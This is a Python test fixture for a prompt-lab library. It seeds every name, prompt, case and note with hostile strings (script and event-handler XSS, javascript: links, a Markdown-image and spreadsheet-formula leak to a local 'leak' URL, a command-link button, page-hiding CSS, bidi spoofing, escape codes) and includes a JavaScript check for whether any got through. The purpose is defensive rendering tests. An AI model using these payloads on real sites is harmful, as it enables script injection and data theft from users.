"""Texts that try to run something, fetch something, hide something or break the page, wherever text is drawn.

`PAYLOADS` are the texts; `hostile_lab` is a file in which every name, prompt, case, note and answer is one of them.
In a browser `CLEAN` says whether the page is as it should be.
"""

from __future__ import annotations

import itertools
from pathlib import Path

from promptlab import Lab, ParameterGrid, PromptTemplate
from promptlab.testing import ScriptedBackend

_MARK = "window.__hostile = (window.__hostile || []).concat"

PAYLOADS = {
    "script": f"<script>{_MARK}('script')</script>hello",
    "image": f"x <img src=x onerror=\"{_MARK}('image')\">",
    "svg": f"<svg onload=\"{_MARK}('svg')\"></svg>",
    "frame": f"<iframe srcdoc=\"<script>parent.{_MARK[7:]}('frame')</script>\"></iframe>",
    "Markdown link": f"[click](javascript:{_MARK}('link'))",
    "Markdown image": "![q](http://127.0.0.1:9/leak?q=SECRET)",
    "command link": '<a href="#" data-commandlinker-command="notebook:insert-cell-below"'
    ' data-commandlinker-args="{}">Click to see the rest</a>',
    "style": "<style>.jp-Notebook{display:none!important}</style>styled",
    "closing tags": "</td></tr></table></div></pre><h1>outside</h1>",
    "mathematics": r'$\href{javascript:window.__hostile=["math"]}{x}$ and \(\unicode[x]{65}\) cost is $5 and $6',
    "bidirectional": "admin\u202egnp.exe\u2066 \u200b zero",
    "escape sequence": "\x1b[2J\x1b[31mred\x00",
    "formula": '=HYPERLINK("http://127.0.0.1:9/leak","click")',
    "JSON": '{"a": "<b>bold</b>", "b": [1, null]}',
    "long": "A" * 5_000,
}

#: JavaScript that returns what is wrong with the page: nothing, when no text got through.
FAULTS = """() => {
    const faults = []
    if (window.__hostile) faults.push('ran: ' + window.__hostile)
    if (document.querySelector('[data-commandlinker-command]')) faults.push('a command link')
    if (document.querySelector('.jp-OutputArea-output h1')) faults.push('a heading outside its cell')
    const notebook = document.querySelector('.jp-Notebook')
    if (!notebook || getComputedStyle(notebook).display === 'none') faults.push('the notebook is hidden')
    const roots = [document]
    for (const root of roots) for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) roots.push(element.shadowRoot)
        if (root !== document && element.matches('script, iframe, img, a[href], object, embed'))
            faults.push('a ' + element.tagName + ' in a panel')
    }
    return faults }"""


def hostile_lab(path: str | Path) -> Lab:
    """Return a lab whose run of two templates, and a second one of a newer version, hold the payloads everywhere."""
    answers = itertools.cycle(PAYLOADS.values())
    lab = Lab(path, backend=ScriptedBackend(lambda _: next(answers), identity="hostile"))
    cases = [{"q": text, "reference": name} for name, text in PAYLOADS.items()]
    grid = ParameterGrid(model="m", temperature=[0, 1], max_tokens=9)
    bold = PAYLOADS["image"]
    first = PromptTemplate("evil", system=f"{bold} v1", user="{{ q }}")
    other = PromptTemplate("other", system=PAYLOADS["script"], user="{{ q }}")
    lab.run([first, other], grid, cases=cases, repeats=2, name=PAYLOADS["image"], note=bold, progress=False)
    second = PromptTemplate("evil", system=f"{bold} v2", user="{{ q }} please")
    lab.run(second, grid, cases=cases, name=PAYLOADS["command link"], note=PAYLOADS["style"], progress=False)
    return lab
